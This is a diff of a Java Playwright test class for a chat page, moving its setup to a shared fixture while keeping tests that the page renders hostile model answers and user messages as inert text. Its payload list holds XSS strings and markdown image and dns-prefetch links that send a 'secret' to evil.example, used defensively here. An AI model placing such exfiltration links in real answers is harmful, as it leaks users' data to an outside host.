@@ -3,23 +3,19 @@ package dev.holdfast.tests.page;
 import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
 
 import dev.holdfast.tests.harness.Answer;
-import dev.holdfast.tests.harness.FakeModel;
 import dev.holdfast.tests.harness.ModelScript;
-import dev.holdfast.tests.harness.ServerRig;
 import java.io.IOException;
 import java.util.List;
 import java.util.stream.Stream;
 import org.assertj.core.api.Assertions;
-import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.Test;
-import org.junit.jupiter.api.Timeout;
 import org.junit.jupiter.api.extension.RegisterExtension;
 
 /**
  * Rows S27 and S28: whatever a message or an answer says, the page shows it as text and fetches
  * nothing for it.
  */
-@Timeout(120)
+@InBrowser
 class HostileAnswerTest {
   private static final String EVIL = "evil.example";
   private static final List<String> PAYLOADS =
@@ -39,20 +35,12 @@ class HostileAnswerTest {
           "![secret][g]\n\n[g]: https://evil.example/g.png?q=secret",
           "<link rel=dns-prefetch href=https://secret.evil.example>");
 
-  @RegisterExtension static final Browsers BROWSERS = new Browsers();
-  private final ServerRig rig = new ServerRig();
-  private final FakeModel model = new FakeModel().asOpenAi(rig.setup());
-
-  @AfterEach
-  void end() {
-    model.close();
-    rig.close();
-  }
+  @RegisterExtension static final Pages PAGES = Pages.MODEL;
 
   @Test
   void anAnswerRunsNothingAndFetchesNothing() {
-    model.always(ModelScript.answer(_ -> String.join("\n\n", PAYLOADS)));
-    try (ChatPage chat = ChatPage.open(rig.start(), BROWSERS.browser())) {
+    PAGES.model().always(ModelScript.answer(_ -> String.join("\n\n", PAYLOADS)));
+    try (ChatPage chat = PAGES.open()) {
       chat.converse("be evil");
       assertThat(chat.answers()).containsText(new String[] {"<script>alert(1)</script>"});
       assertThat(chat.answers()).containsText("[click](javascript:alert(1))");
@@ -70,8 +58,8 @@ class HostileAnswerTest {
   /** An image is a link that says where it leads; opening it is the person's choice. */
   @Test
   void anImageIsALinkThatNamesItsHost() {
-    model.always(ModelScript.answer(_ -> "![a cat](https://evil.example/cat.png)"));
-    try (ChatPage chat = ChatPage.open(rig.start(), BROWSERS.browser())) {
+    PAGES.model().always(ModelScript.answer(_ -> "![a cat](https://evil.example/cat.png)"));
+    try (ChatPage chat = PAGES.open()) {
       chat.converse("show me a cat");
       assertThat(chat.answers().locator("a")).hasText("image: a cat");
       assertThat(chat.answers().locator(".host")).containsText(EVIL);
@@ -81,7 +69,7 @@ class HostileAnswerTest {
 
   @Test
   void aPersonsWordsAreTextTooAlsoInTheListAndTheStory() {
-    try (ChatPage chat = ChatPage.open(rig.start(), BROWSERS.browser())) {
+    try (ChatPage chat = PAGES.open()) {
       String words = String.join(" ", PAYLOADS.stream().flatMap(String::lines).toList());
       chat.converse(words);
       assertThat(chat.messages().locator(".text")).hasText(words);
@@ -100,18 +88,18 @@ class HostileAnswerTest {
   @Test
   void endlessMarkupDoesNotStallThePage() {
     String endless = Stream.generate(() -> "![a](").limit(9000).reduce("", String::concat);
-    model.always(ModelScript.answer(_ -> endless));
-    try (ChatPage chat = ChatPage.open(rig.start(), BROWSERS.browser())) {
+    PAGES.model().always(ModelScript.answer(_ -> endless));
+    try (ChatPage chat = PAGES.open()) {
       chat.converse("stall");
       assertThat(chat.answers()).containsText("![a](![a](");
-      model.always(ModelScript.echo());
+      PAGES.model().always(ModelScript.echo());
       chat.converse("still there?");
     }
   }
 
   @Test
   void thePageMayNotBeFramedAndRunsOnlyItsOwnScripts() throws IOException {
-    Answer page = rig.start().api().get("/chat");
+    Answer page = PAGES.api().get("/chat");
     Assertions.assertThat(page.header("content-security-policy"))
         .contains("default-src 'self'", "frame-ancestors 'none'")
         .doesNotContain("unsafe");
@@ -120,7 +108,7 @@ class HostileAnswerTest {
   }
 
   private static void assertNothingHappened(ChatPage chat) {
-    chat.page().waitForTimeout(300);
+    chat.awaitWhatItStarted();
     Assertions.assertThat(chat.foreignRequests()).isEmpty();
     Assertions.assertThat(chat.complaints()).isEmpty();
   }
